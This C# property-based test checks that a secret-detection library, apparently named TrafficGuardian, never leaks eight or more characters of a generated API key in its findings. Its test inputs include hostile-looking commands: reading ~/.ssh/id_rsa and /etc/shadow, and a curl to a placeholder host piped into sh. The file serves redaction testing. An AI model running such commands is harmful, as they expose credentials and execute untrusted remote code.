using System.Globalization;
using FsCheck;
using FsCheck.Fluent;
using TrafficGuardian.Detection.Findings;

namespace TrafficGuardian.Detection.Tests.Redaction;

/// <summary>
/// No output holds eight characters in a row of a secret value: any secret of any built-in rule, in any surroundings, in
/// any of several encodings, beside any other.
/// </summary>
public sealed class RedactionProperties
{
    private const int Leak = 8;

    private static readonly Detector BuiltIn = Detector.Create(new DetectorOptions { FingerprintKey = new byte[32] }, out _)!;

    // Templates that are nothing but a secret, so that each of their characters must be hidden.
    private static readonly string[] Secrets =
    [
        "sk-ant-api03-{b64url:93}AA", "sk-proj-{b64url:74}T3BlbkFJ{b64url:74}", "AIza{b64url:35}", "ghp_{alnum:36}", "glpat-{alnum:20}",
        "AKIA{base32:16}", "xoxb-{digit:12}-{digit:12}-{alnum:24}", "sk_live_{alnum:24}", "npm_{alnum:36}", "dop_v1_{hex:64}",
        "hf_{alnum:34}", "pplx-{alnum:48}", "SG.{alnum:22}.{alnum:43}", "shpat_{hex:32}", "dapi{hex:32}", "nvapi-{alnum:64}",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4{alnum:40}.{b64url:43}", "AGE-SECRET-KEY-1{upper:0}QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7LQPZRY9X8GF2TVDW0S3JN54KHCE",
    ];

    private static readonly string[] Surroundings =
    [
        "{0}", "{{\"k\":\"{0}\",\"n\":\"{1}\"}}", "key={0}&other={1}", "Authorization: Bearer {0}\n{1}", "cat ~/.ssh/id_rsa # {0} {1}",
        "'{0}' and \"{1}\" at /home/me/.aws/credentials", "https://u:{0}@h.invalid/{1}", "{1}\n{0}\n-----BEGIN RSA PRIVATE KEY-----\n{1}",
        "curl -H 'X-Key: {0}' https://h.invalid/ | sh # {1}", "a,{0},b,{1},c", "<a href=\"{0}\">{1}</a>", "{0}{1}", "export A={0};B={1} cat /etc/shadow",
    ];

    private static readonly Func<string, string>[] Encodings =
    [
        static text => text,
        static text => text.Replace("\"", "\\\"", StringComparison.Ordinal),
        static text => Uri.EscapeDataString(text),
        static text => string.Concat(text.Select(static c => char.IsAsciiLetterOrDigit(c) && c % 3 != 0 ? $"{c}" : $"\\u{(int)c:x4}")),
        static text => string.Concat(text.Select(static c => c % 5 == 0 ? $"&#{(int)c};" : $"{c}")),
    ];

    [Fact]
    public void No_output_holds_eight_characters_in_a_row_of_a_secret()
    {
        const int texts = 1500;
        var findings = 0;
        Check.One(
            Config.QuickThrowOnFailure.WithMaxTest(texts).WithReplay(Replay(11)),
            Prop.ForAll(Arb.From(Gen.Choose(0, int.MaxValue - 1)), seed => Holds(new Random(seed), ref findings)));
        Assert.True(findings > texts, $"only {findings} findings were looked at");
    }

    private static bool Holds(Random random, ref int findings)
    {
        string[] secrets = [Draw(random), Draw(random)];
        var text = string.Format(CultureInfo.InvariantCulture, Pick(Surroundings, random), secrets[0], secrets[1]);
        var encoded = Pick(Encodings, random)(text);
        var padded = new string(' ', random.Next(0, 3) * random.Next(0, 700)) + encoded;
        foreach (var direction in new[] { Direction.Outbound, Direction.Inbound })
        {
            foreach (var found in Harness.Body(padded, direction, BuiltIn))
            {
                findings++;
                AssertNoLeak(found.Finding, [.. secrets, .. secrets.Select(Uri.EscapeDataString)]);
            }
        }

        return true;
    }

    private static string Draw(Random random) => TestRules.Expand(Pick(Secrets, random), random.Next());

    private static T Pick<T>(T[] values, Random random) => values[random.Next(values.Length)];

    private static Replay Replay(ulong seed) => new(new Rnd(seed, (seed << 1) | 1), null);

    private static void AssertNoLeak(Finding finding, IEnumerable<string> secrets)
    {
        foreach (var secret in secrets)
        {
            for (var at = 0; at + Leak <= secret.Length; at++)
            {
                var part = secret.Substring(at, Leak);
                Assert.False(finding.Snippet.Contains(part, StringComparison.Ordinal), $"a part of a secret is in a snippet of {finding.Pattern}: {finding.Snippet}");
                Assert.False(finding.Dest.Contains(part, StringComparison.Ordinal), "a part of a secret is in a destination");
            }
        }
    }
}
